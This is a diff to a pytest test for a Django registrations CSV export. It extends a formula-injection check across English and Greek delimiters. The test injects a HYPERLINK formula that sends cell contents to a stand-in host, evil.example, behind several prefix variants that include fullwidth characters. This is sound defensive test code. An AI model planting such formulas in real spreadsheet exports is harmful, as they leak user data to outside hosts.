@@ -14,8 +14,9 @@ pytestmark = pytest.mark.django_db
 PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠"]
 
 
+@pytest.mark.parametrize(("language", "delimiter"), [("en", ","), ("el", ";")])
 @pytest.mark.parametrize("prefix", PREFIXES)
-def test_no_cell_of_the_export_begins_a_formula(prefix: str) -> None:
+def test_no_cell_of_the_export_begins_a_formula(prefix: str, language: str, delimiter: str) -> None:
     attack = f'{prefix}HYPERLINK("https://evil.example/?"&B2;"a")'
     lab = f.LabFactory(slug="lab")
     f.SessionFactory(lab=lab, title={"en": attack})
@@ -30,8 +31,9 @@ def test_no_cell_of_the_export_begins_a_formula(prefix: str) -> None:
     )
     f.RegistrationFactory(lab=lab, city=f.CityFactory(name={"en": attack}))
     client = client_of(f.StaffFactory(lab=lab).user)
-    response: Any = client.get("/organise/labs/lab/registrations.csv")
-    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))
+    response: Any = client.get("/organise/labs/lab/registrations.csv", {"lang": language})
+    table = io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")
+    rows = list(csv.reader(table, delimiter=delimiter))
     assert len(rows) == 3
     cells = [cell for row in rows for cell in row]
     assert sum("HYPERLINK" in cell for cell in cells) == 6  # there was something that could do harm
